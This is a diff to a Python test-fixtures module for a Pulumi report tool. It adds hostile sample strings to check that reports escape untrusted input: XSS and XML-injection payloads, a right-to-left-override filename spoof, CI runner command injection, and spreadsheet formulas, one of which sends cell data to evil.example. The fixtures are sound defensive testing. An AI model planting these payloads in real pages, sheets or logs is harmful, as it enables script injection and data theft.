@@ -1,5 +1,6 @@
 """This is where tests make reports by hand: rows of every status, and names that nobody should trust."""
 
+from dataclasses import replace
 from typing import Any
 
 from daypass.model.resource import Place
@@ -81,3 +82,52 @@ def view(**more: Any) -> View:
 
 
 UNREAD = Source("prod.json", "stack-export", error="it is empty. Write it again with `pulumi stack export`.")
+
+HOSTILE_TEXTS = {
+    "everything at once": HOSTILE,
+    "markup": "</td></table></script><script>alert(1)</script><svg onload=alert(1)><!-- --> <b onmouseover=x>&lt;&#60;",
+    "an attribute that ends": 'x" onfocus="alert(1)" autofocus tabindex=1 \'',
+    "quotes and backslashes": "\\\"'`\\' \\\\\" '' \"\"",
+    "the end of an element": "]]></failure></testcase></testsuite><!DOCTYPE x [<!ENTITY y 'z'>]>&y;",
+    "control characters": "".join(map(chr, (*range(32), *range(127, 160)))),
+    "marks of direction": "invoice\u202egpj.exe \u2066a\u2067b\u2069 \u200f\u200e\u061c",
+    "letters from right to left": "\u05d0\u05d1\u05d2 (\u0627\u0644\u062f\u0648\u0631)",
+    "halves of characters": "\ud800 \udfff \udc00\ud800",
+    "what XML has no way to write": "\ufffe\uffff\x00\x0b",
+    "beyond the first plane": "\U0001f511\U000e0041\U0010ffff",
+    "a formula": '=HYPERLINK("https://evil.example/?"&A1,"open")',
+    "a formula behind a separator": 'a;=1+1;"@SUM(1)",-1\t+1',
+    "a formula behind a line break": "\r\n=1+1\n@x",
+    "commands of a runner": "::error::x\n##[stop-commands]y\n::set-output name=a::b",
+    "very long": "x" * 50_000,
+    "nothing": "",
+}
+"""What somebody may have written where a report quotes them."""
+
+
+def everywhere(text: str, rule: str = "no-long-lived-key") -> Report:
+    """A report that holds the text in every field that somebody else can fill; names of rules are ours, or cleaned."""
+    urn = f"urn:pulumi:{text}::{text}::{text}::{text}"
+    row = finding(
+        source=text,
+        rule=rule,
+        urn=urn,
+        type=text,
+        name=text,
+        message=text,
+        remedy=text,
+        controls=(text, text),
+        location=Place(text, 3),
+        identity=urn,
+    )
+    excuse = {"reason": text, "owner": text, "approver": text, "expires": text}
+    sources = (Source(text, "program", text, 1, 1), Source(f"{text}.json", "checkpoint", text, error=text or "x"))
+    rows = [
+        row,
+        replace(row, severity="low", enforcement="advisory"),
+        replace(row, status="undecided", unknown=(text, text)),
+        replace(row, status="exempt", exemption=excuse),
+        replace(row, status="known"),
+        replace(row, status="pass"),
+    ]
+    return report(*rows, sources=sources, settings=text or None, notes=(text,), warnings=(text,))
